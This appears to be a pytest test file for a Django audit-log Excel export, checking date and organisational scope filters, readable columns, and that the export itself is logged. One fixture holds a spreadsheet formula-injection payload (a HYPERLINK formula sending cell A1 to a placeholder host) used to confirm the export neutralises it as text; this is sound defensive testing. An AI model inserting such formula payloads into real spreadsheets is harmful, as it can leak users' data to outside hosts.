"""The audit log's export: the page's scope and filters (with the date range), readable columns, text as text,
and the export itself audited."""

from __future__ import annotations

import datetime
import io

import openpyxl
from django.urls import reverse
from django.utils import timezone

from chuxin.audit.models import AuditEntry
from chuxin.audit.services import audit_record

A = AuditEntry.Action


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)
                                             if response.streaming else response.content)).active


def test_export_has_the_page_scope_filters_and_safe_cells(world, client_for):
    AuditEntry.objects.all().delete()
    audit_record(actor=world.secretary, action=A.UPDATE, organization=world.b1,
                 target_repr='=HYPERLINK("http://x/?"&A1,"x")')
    audit_record(actor=world.secretary, action=A.UPDATE, organization=world.b2, target_repr="第二支部")
    old = audit_record(actor=world.secretary, action=A.UPDATE, organization=world.b1, target_repr="很早以前")
    AuditEntry.objects.filter(pk=old.pk).update(at=timezone.now() - datetime.timedelta(days=400))
    audit_record(actor=world.secretary, action=A.UPDATE, organization=world.sup, target_repr="在上级党委")

    client = client_for(world.worker)
    today = timezone.localdate().isoformat()
    ws = _sheet(client.get(reverse("audit:export"), {"from": (timezone.localdate() - datetime.timedelta(days=30))
                                                     .isoformat(), "to": today}))
    assert [c.value for c in ws[1]] == ["时间", "操作人", "操作", "对象", "详情", "来源地址"]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width == 18 and ws.column_dimensions["E"].width == 60
    objects = [row[3].value for row in ws.iter_rows(min_row=2)]
    assert "第二支部" in objects
    assert "很早以前" not in objects  # outside the date range
    assert "在上级党委" not in objects  # outside the worker's scope
    hostile = next(row[3] for row in ws.iter_rows(min_row=2) if "HYPERLINK" in str(row[3].value))
    assert hostile.data_type == "s" and hostile.value.startswith("'=")
    assert all(isinstance(row[0].value, datetime.datetime) for row in ws.iter_rows(min_row=2))

    exported = AuditEntry.objects.filter(action=A.EXPORT, actor=world.worker).get()
    assert exported.changes["rows"] == len(objects)
    # The export shows in the log of the exporter's organization.
    page = client.get(reverse("audit:list"), {"action": A.EXPORT})
    assert [e.pk for e in page.context["page_obj"]] == [exported.pk]


def test_the_page_filters_by_date_and_links_the_export_with_them(world, client_for):
    AuditEntry.objects.all().delete()
    old = audit_record(actor=world.secretary, action=A.UPDATE, organization=world.b1, target_repr="很早以前")
    AuditEntry.objects.filter(pk=old.pk).update(at=timezone.now() - datetime.timedelta(days=400))
    audit_record(actor=world.secretary, action=A.UPDATE, organization=world.b1, target_repr="最近")
    client = client_for(world.worker)
    since = (timezone.localdate() - datetime.timedelta(days=30)).isoformat()
    response = client.get(reverse("audit:list"), {"from": since})
    assert {e.target_repr for e in response.context["page_obj"]} == {"最近"}
    assert f'{reverse("audit:export")}?from={since}' in response.content.decode()
    # Dates outside 1900-2100 or not dates at all are no filter, not an error.
    for bad in ("0001-01-01", "9999-12-31", "2026-13-01", "x"):
        response = client.get(reverse("audit:list"), {"from": bad, "to": bad})
        assert response.status_code == 200
        assert {e.target_repr for e in response.context["page_obj"]} == {"很早以前", "最近"}
